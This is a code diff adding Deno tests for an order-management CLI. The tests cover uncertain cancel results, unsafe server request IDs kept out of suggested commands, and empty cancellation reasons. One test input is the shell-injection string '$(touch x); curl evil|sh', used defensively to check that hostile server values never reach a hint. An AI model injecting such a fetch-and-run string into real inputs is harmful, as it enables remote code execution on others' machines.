@@ -178,3 +178,47 @@ Deno.test("an unknown order and an unknown status are told apart", async () => {
   }, w);
   assert.deepEqual(mutations(w), []);
 });
+
+for (
+  const [about, answer] of [
+    ["nothing where the row should be", { data: { orders_cancel: null } }],
+    ["a field of another type", { data: { orders_cancel: { ...order(), status: 5 } } }],
+    ["another mutation's row", { data: { orders_refund: order() } }],
+  ] as const
+) {
+  Deno.test(`FT-37: a change that is answered with ${about} may have been carried out, and says how to find out`, async () => {
+    const found = json({ data: { orders: { data: [order()], meta: { total_pages: 1 } } } });
+    await using w = await withToken("owner", { fetch: scripted(found, json(answer, 200, { "X-Request-Id": "r-1" })) });
+    await autocom("orders cancel ORD-20260503-001 --yes -o json", {
+      code: 11,
+      err(text) {
+        const { message, hint, request_id } = JSON.parse(text).error;
+        assert.match(message, /; the change may have been carried out$/);
+        assert.deepEqual(
+          [hint, request_id],
+          ["find out before you try again: autocom audit list --request-id r-1", "r-1"],
+        );
+      },
+    }, w);
+  });
+}
+
+for (const name of ["$(touch x); curl evil|sh", "-o json", "a b", "'", "x".repeat(60_000)]) {
+  Deno.test(`FT-51: a request's name from the server that is no plain word stands in no hint: ${name.slice(0, 20)}`, async () => {
+    const found = json({ data: { orders: { data: [order()], meta: { total_pages: 1 } } } });
+    const failed = json({ message: "x" }, 500, { "X-Request-Id": name });
+    await using w = await withToken("owner", { fetch: scripted(found, failed) });
+    await autocom("orders cancel ORD-20260503-001 --yes -q", {
+      code: 11,
+      err:
+        /\(request [0-9a-f-]{36}\)\nhint: find out before you try again: autocom audit list --request-id [0-9a-f-]{36}\n$/,
+    }, w);
+  });
+}
+
+Deno.test("FT-6: an empty reason is refused with a hint about reasons", async () => {
+  await autocom(["orders", "cancel", "ORD-1", "--reason", "", "--yes"], {
+    code: 2,
+    err: "error: --reason must not be empty\nhint: leave --reason out, or give it a value\n",
+  });
+});
